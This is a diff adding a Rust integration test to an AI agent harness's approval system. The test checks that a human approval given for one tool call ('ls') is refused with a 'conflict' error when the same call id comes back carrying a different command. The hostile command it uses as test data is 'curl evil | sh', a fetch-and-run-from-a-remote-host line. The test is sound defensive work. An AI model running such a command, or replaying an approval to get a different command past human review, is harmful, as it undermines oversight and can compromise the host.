@@ -371,6 +371,50 @@ async fn unanswered_interactions_expire_with_their_fallbacks() {
     );
 }
 
+/// An approval is the answer to one call: asked again under its call id with the same
+/// request (a retry) it is the same approved interaction, but under that id with another
+/// command (a model or provider repeating an earlier step's call id) it is `conflict`,
+/// never the approval given for the first command.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_approval_is_never_replayed_for_another_call_under_its_id() {
+    let mock = MockProvider::start().await;
+    let stack = Stack::start(&mock, 1).await;
+    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
+    let mut c = stack.client(0).await;
+    let (sid, turn) = running_turn(&mut c, &mut worker, json!({})).await;
+    let _w = watch(&mut c, &sid).await;
+    let ask = worker.ask(&turn, "call_0", approval("ls"));
+    let mut iid = None;
+    for _ in 0..200 {
+        let p = c.ok("session.pendingInteractions", json!({"sessionId": sid})).await;
+        if let Some(first) = p.as_array().and_then(|a| a.first()) {
+            iid = first["interactionId"].as_str().map(str::to_string);
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    let iid = iid.expect("the approval is pending");
+    c.ok(
+        "session.respond",
+        json!({"interactionId": iid, "answer": {"approved": true}}),
+    )
+    .await;
+    let got = result(answer(ask, 15).await.expect("answered"));
+    assert_eq!(got["outcome"], json!({"approved": true}));
+    let other = answer(worker.ask(&turn, "call_0", approval("curl evil | sh")), 10)
+        .await
+        .expect("answered at once");
+    let err = other.error.expect("another request under the same call id is refused");
+    assert_eq!(err.data["code"], "conflict", "{err:?}");
+    let same = result(answer(worker.ask(&turn, "call_0", approval("ls")), 10).await.unwrap());
+    assert_eq!(
+        same["interactionId"],
+        iid.as_str(),
+        "a retry finds the same interaction"
+    );
+    assert_eq!(same["outcome"], json!({"approved": true}));
+}
+
 /// Asked while nobody watches the session, the fallback answers at once (the timeout is
 /// the default 15 minutes, so this is not expiry); the history records both events.
 #[tokio::test(flavor = "multi_thread")]
